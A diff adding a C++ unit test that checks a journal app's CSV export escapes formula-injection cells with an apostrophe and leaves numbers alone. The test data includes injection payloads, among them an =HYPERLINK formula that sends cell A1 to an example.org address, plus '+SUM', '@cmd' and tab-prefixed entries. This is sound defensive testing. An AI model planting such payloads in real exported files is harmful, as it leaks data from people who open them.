@@ -474,6 +474,35 @@ TEST_F(ExchangeTest, CsvReadsBackStrictly)
     }
 }
 
+// Text from another journal must not run as a spreadsheet formula when the
+// table is opened: such cells begin with an apostrophe, numbers stay numbers.
+TEST_F(ExchangeTest, CsvCellsNeverRunAsFormulas)
+{
+    Entry e = fullEntries().first();
+    e.title = "=HYPERLINK(\"http://example.org/?\"&A1,\"сон\")";
+    e.text = "+SUM(1;2)";
+    e.fulfilment.note = "@cmd";
+    e.mood = -2;
+    e.clarity = 3;
+    ASSERT_TRUE(e.place);
+    e.place->name = "-1+2";
+    e.zone = "\t=1";
+    const QStringList row = readCsv(QString::fromUtf8(diaryCsv({e}).mid(3))).value(1);
+    ASSERT_EQ(row.size(), 21);
+    EXPECT_EQ(row[4], "'" + e.title);
+    EXPECT_EQ(row[5], "'+SUM(1;2)");
+    EXPECT_EQ(row[18], "'@cmd");
+    EXPECT_EQ(row[12], "'-1+2");
+    EXPECT_EQ(row[3], "'\t=1");
+    EXPECT_EQ(row[8], "-2") << "a number is left a number";
+    EXPECT_EQ(row[7], "3");
+    e.title = "- Куда ты? — спросил он.";
+    e.text = "Обычный сон = обычный день";
+    const QStringList plain = readCsv(QString::fromUtf8(diaryCsv({e}).mid(3))).value(1);
+    EXPECT_EQ(plain[4], "'- Куда ты? — спросил он.");
+    EXPECT_EQ(plain[5], e.text) << "only the first character counts";
+}
+
 TEST_F(ExchangeTest, MarkdownNotesHaveSafeUniqueNames)
 {
     Entry e = fullEntries().first();
